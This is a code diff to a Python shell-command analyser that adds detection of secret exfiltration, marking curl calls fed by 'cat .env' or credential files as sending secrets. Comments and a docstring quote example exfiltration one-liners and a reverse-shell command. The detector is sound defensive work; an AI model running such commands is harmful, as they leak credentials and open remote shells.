@@ -66,7 +66,13 @@ from clearance.shellparse.nodes import (
     Word,
 )
 from clearance.shellparse.paths import inside, resolve
-from clearance.shellparse.world import add_selection, ground, mark_trees, selection_of
+from clearance.shellparse.world import (
+    add_selection,
+    ground,
+    mark_trees,
+    selection_of,
+    tracked_selection,
+)
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -221,7 +227,7 @@ class Extractor:
             self.command(commands[0], env, scope)
             return _static_output(self.out[start:], scope.stdin_text)
         stdin_text: str | None = scope.stdin_text
-        upstream_network = upstream_everything = False
+        upstream_network = upstream_everything = upstream_secret = False
         selected: list[str] | None = None
         for k, command in enumerate(commands):
             stage = scope.with_context("pipeline")
@@ -239,7 +245,13 @@ class Extractor:
                 for fact in produced:
                     if _destroys_items(fact):
                         fact.markers.add("workspace_wide")
+            if k and upstream_secret:
+                # ``cat .env | curl -d @- https://…``: what the network part reads is sent
+                for fact in produced:
+                    if fact.stdin == "pipe":
+                        sends_secret(fact)
             upstream_network = upstream_network or any("network" in f.classes for f in produced)
+            upstream_secret = upstream_secret or any("secret_read" in f.classes for f in produced)
             upstream_everything = upstream_everything or any(
                 self._lists_everything(f) for f in produced
             )
@@ -516,6 +528,17 @@ class Extractor:
                 self.selections[key] = patterns
         elif len(produced) == 1 and produced[0].program == "git" and not produced[0].via:
             patterns = _ls_files_selection(produced[0], env.cwd)
+            git = produced[0]
+            if (
+                not patterns
+                and self._lists_everything(git)
+                and set(git.argv[2:]) <= _LS_FILES_PLAIN
+                and not any(p.source == "cwd" for p in git.paths)
+            ):
+                # every tracked file: the index says which, and which of them are secrets
+                root = self.workspace
+                if root is not None and env.cwd is not None and self.resolver is not None:
+                    patterns = tracked_selection(root, env.cwd, self.home, self.classifier.fold)
             if patterns:
                 self.selections[key] = patterns
 
@@ -634,13 +657,15 @@ class Extractor:
             self._assignment_words(assignment, env, scope)
         # Substitutions run first; remember whether one fetched from the network, and whether
         # it fed the program's name (``$(curl …)``) or its arguments.
-        fetched_program = fetched_args = False
+        fetched_program = fetched_args = secret_args = False
         for k, word in enumerate(command.words):
             start = len(self.out)
             self.word(word, env, scope)
             if any("network" in f.classes for f in self.out[start:]):
                 fetched_program = fetched_program or k == 0
                 fetched_args = True
+            if k and any("secret_read" in f.classes for f in self.out[start:]):
+                secret_args = True  # ``curl "https://x/?q=$(cat .env)"``
         for redirect in command.redirects:
             start = len(self.out)
             self.word(redirect.target, env, scope)
@@ -723,6 +748,8 @@ class Extractor:
             # (``bash -i >& /dev/tcp/host/port 0>&1``)
             fact.classes.update(("code_exec", "remote_code_exec"))
         _builtin_effects(fact, argv, flags, env, env.home)
+        if secret_args:
+            sends_secret(fact)
 
     def emit(
         self,
@@ -1648,6 +1675,11 @@ def _printf(template: str, args: list[str]) -> str | None:
     return "".join(out)
 
 
+#: ``git ls-files`` options that leave its output the tracked files' paths relative to the cwd
+#: (``--others``, ``--full-name``, ``--recurse-submodules``, ``-s``… print something else).
+_LS_FILES_PLAIN = frozenset(("-z", "-c", "--cached"))
+
+
 def _ls_files_selection(git: SimpleCommandFacts, cwd: str | None) -> list[str]:
     """``git ls-files '*.md'`` prints the tracked files its pathspecs pick, as the
     ``ROOT/{}/NAME`` patterns a ``find`` selection uses; ``[]`` without a pathspec (every
@@ -1662,6 +1694,15 @@ def _ls_files_selection(git: SimpleCommandFacts, cwd: str | None) -> list[str]:
         f"{base}/{{}}/{spec}" if "/" not in spec else os.path.normpath(os.path.join(cwd, spec))
         for spec in specs
     ]
+
+
+def sends_secret(fact: SimpleCommandFacts) -> None:
+    """A network part given secret material -- in an argument (``curl -H "X: $(cat
+    ~/.aws/credentials)"``, a query built from ``$(cat .env)``) or on its input (``cat .env |
+    curl -d @- …``) -- sends it: a secret read and a network write (a web write of a secret)."""
+    if "network" in fact.classes:
+        fact.classes.update(("secret_read", "network_write"))
+        fact.classes.discard("network_read")
 
 
 def unknown_reads(fact: SimpleCommandFacts) -> None:
